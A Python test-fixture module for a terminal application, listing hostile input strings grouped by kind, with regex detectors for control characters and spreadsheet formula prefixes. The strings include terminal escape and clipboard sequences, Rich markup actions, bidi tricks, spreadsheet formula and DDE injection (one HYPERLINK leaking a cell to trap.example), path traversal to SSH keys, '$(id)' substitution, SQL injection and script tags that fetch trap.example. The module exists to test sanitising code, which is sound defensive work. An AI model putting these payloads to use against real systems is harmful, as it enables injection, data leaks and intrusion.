"""Strings that somebody who wishes us ill might write, by what they would do if they got through.

The tests bring their own. A collection that lies beside the project, `prototypes/hostile.json` in
the shared folder, is used as well where it is there.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Final

SHARED: Final = Path(__file__).parents[2].parent / "shared" / "prototypes" / "hostile.json"

KINDS: Final[dict[str, tuple[str, ...]]] = {
    # Would colour, retitle, clear or question the terminal, or write to the clipboard.
    "terminal": (
        "\x1b[1;35mpurple\x1b[0m ward",
        "\x1b]52;c;c3RvbGVu\x07pasted",
        "\x1b]2;new window title\x1b\\named",
        "\x1b[3J\x1b[2Jwiped",
        "\x1b]8;;http://trap.example/\x1b\\press here\x1b]8;;\x1b\\",
        "\x9b41m one byte of colour",
        "\x9d2;one byte title\x9c shown",
        "\x90q#1;2;0;0;0\x9c one byte picture",
        "\x1bP$qm\x1b\\ question",
        "\x1b]1337;File=inline=1:AAAA",
        "\x1bc\x1b(0 reset",
        "\x1b[c\x1b[5n questions",
        "\x1b[?1049l\x1b[?25l left",
        "\x1b_Ga=T;AAAA\x1b\\ picture",
        "nul\x00 bell\x07 back\x08\x08 rub\x7f",
        "over\rwritten",
        "\x1b[201~\x1b[200~pasted twice",
    ),
    # Would become a style, a link, an action or an error of Textual, Rich or a format string.
    "markup": (
        "[/",
        "[/wards]",
        "[bold red]never closed",
        "[@click=app.quit]Leave[/]",
        "[@click=screen.dismiss()]x",
        "[link=file:///etc/shadow]read[/link]",
        "price [/#101010] here",
        "[[[[",
        "\\[blue]",
        "[$error]theme",
        "$text ${HOME} {0} {name!r} %s %(a)s %d",
        ":skull: [on green]",
    ),
    # Would turn letters round, hide some, spill over lines, or fit no encoding.
    "unicode": (
        "ward \u202egnp.exe\u202c",
        "\u2067isolated\u2069 ward",
        "in\u200bvi\u2060si\u00adble",
        "\ufeffmarked",
        "tags \U000e0048\U000e0069\U000e007f",
        "heap a" + "\u0308\u0323" * 90,
        "nurse \U0001f469\U0001f3fd\u200d\u2695\ufe0f",
        "wide \u4e16\u754c\uff21\uff22",
        "half \udc80\ud83d pair",
        "two\u2028lines\u2029and\x85three",
        "\ufdfb" * 15,
        "\u0130\u0131\u1e9e\ufb03 \u01c5",
        "\U0010ffff\ufffe\ufdd0 none",
    ),
    # Would be reckoned by a spreadsheet.
    "formula": (
        "=2+3",
        '=HYPERLINK("http://trap.example/?"&A1,"prices")',
        "=cmd|' /C notepad'!A1",
        "+2+3",
        "-2+3",
        "@SUM(1,2)",
        "\t=2+3",
        "\r=2+3",
        "\n=2+3",
        "  =2+3",
        "\uff1d2+3",
        "\uff0b2",
        "\uff0d2",
        "\uff20SUM(1)",
        "'=2+3",
        '"=2+3"',
        ";=2+3",
        "|=2+3",
        "{=2+3}",
        "<r>=2+3</r>",
    ),
    # Would name another file than one of ours.
    "path": (
        "../../.ssh/authorized_keys",
        "..\\..\\boot.ini",
        "/etc/crontab",
        "D:\\autoexec",
        "AUX",
        "con.txt",
        "p" * 270,
        "ward / one",
        ".profile",
        "cut\x00here",
        "dots... ",
        "~root",
        "-rf",
        "--help",
        "$(id)",
        "`id`",
    ),
    # Would break the grammar of a search, an SQL statement or a number.
    "query": (
        '"',
        '"rota',
        "OR AND NOT",
        "NEAR(a, b",
        "rot*",
        "*:*",
        "))((",
        "title:rota",
        "tool:",
        "-rota",
        "rota^9 ~2",
        "[a TO z]",
        "'); DROP TABLE tool; --",
        "%' OR 1=1 --",
        "\\",
        "/rot.*/",
        "\u00b2",
        "\u0663",
        "9" * 40,
        "word " * 500,
        "q" * 4000,
        "\x00",
        " ",
    ),
    # Would run, load or end something in a page made of it.
    "html": (
        "<script>fetch('http://trap.example')</script>",
        "<img src=http://trap.example/p.png onerror=alert(1)>",
        "</title></main><h1>mine",
        "</script><script>",
        "<!-- never ended",
        "]]> &amp;lt; &#27;[2J",
        "javascript:alert(1)",
        "![](http://trap.example/p.png) [x](javascript:alert(1))",
        "| a | b |\n|---|---|",
    ),
}

OWN: Final = tuple(text for kind in KINDS.values() for text in kind)


def shared() -> tuple[str, ...]:
    """The strings that lie beside the project."""
    kinds: dict[str, list[str]] = json.loads(SHARED.read_text(encoding="utf-8"))
    return tuple(text for kind in kinds.values() for text in kind)


OBEYED: Final = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f"  # control characters other than tab and newline
    "\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff"  # directions, nothing to see
    "\ud800-\udfff\U000e0000-\U000e007f]"  # halves of pairs, tags
)
"""What a terminal would obey, or a reader not see, wherever a text is printed."""

FORMULA: Final = re.compile(r"[\s\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
"""How a cell begins that a spreadsheet reckons."""
